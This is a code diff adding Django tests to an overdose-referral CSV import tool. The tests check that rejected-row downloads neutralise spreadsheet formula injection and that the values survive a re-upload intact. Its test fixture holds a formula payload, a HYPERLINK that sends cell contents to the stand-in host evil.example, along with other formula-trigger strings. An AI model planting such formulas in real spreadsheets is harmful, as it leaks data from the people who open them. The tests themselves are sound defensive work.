@@ -11,7 +11,7 @@ from django.urls import reverse
 from port.audit.models import AuditEvent
 from port.conftest import submit_referral
 from port.participants.models import Participant
-from port.referrals.csv_import import COLUMN_NAMES
+from port.referrals.csv_import import COLUMN_NAMES, read_table
 from port.referrals.models import Channel, OverdoseEvent, Referral, ReferralImport
 from port.referrals.tests.test_csv_import import good_row, make_csv, png_bytes, xlsx_bytes
 
@@ -435,3 +435,41 @@ def test_real_substance_names_from_the_state_police_data_import(cast):
         referral = Referral.objects.select_related("overdose_event").get(external_id=row["external_id"])
         assert referral.overdose_event.substances == row["substances"].split(";")
         assert referral.channel == Channel.CSV
+
+
+HOSTILE = {"notes": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "location_notes": "=2+2",
+           "overdose_location": "@SUM(A1)", "preferred_name": "-Dee", "phone": "+1 412 555 0199",
+           "address": "\t=1+1"}
+
+
+def test_the_rejected_rows_download_neutralises_formulas_and_re_uploads_unchanged(cast):
+    batch = uploaded(cast, [good_row(1), good_row(2, acuity="soon", **HOSTILE)])
+    client = cast.client_for(cast.partner)
+    confirm(client, batch, "valid_only")
+    response = client.get(reverse("referrals:import_rejected", args=[batch.pk]))
+    header, line = read_download(response)
+    row = dict(zip(header, line, strict=True))
+    for column, value in HOSTILE.items():
+        assert row[column] == "'" + value, column  # a spreadsheet shows the text; it runs nothing
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
+
+    # The download, uploaded again as it is, reads back the values first sent, apostrophes removed.
+    assert post_file(client, response.content, "again.csv").status_code == 302
+    again = ReferralImport.objects.latest("pk")
+    table = read_table(again.content)
+    values = table.values(table.rows[0])
+    assert {column: values[column] for column in HOSTILE} == HOSTILE
+    # Corrected, it imports with the values as sent: the phone number keeps its +1.
+    fixed = response.content.decode("utf-8-sig").replace(",soon,", ",high,")
+    assert post_file(client, fixed, "fixed.csv").status_code == 302
+    assert "1 referral imported" in confirm(client, ReferralImport.objects.latest("pk"), "all").content.decode()
+    referral = Referral.objects.get(external_id="ED-0002")
+    assert referral.notes == HOSTILE["notes"]
+    assert referral.participant.phones.get().number == "+14125550199"
+    assert referral.overdose_event.location == "@SUM(A1)"
+
+
+def test_an_apostrophe_that_protects_nothing_is_kept(cast):
+    table = read_table(make_csv([good_row(1, last_name="'Neill", notes="'tis", location_notes="''=x")]))
+    values = table.values(table.rows[0])
+    assert (values["last_name"], values["notes"], values["location_notes"]) == ("'Neill", "'tis", "'=x")
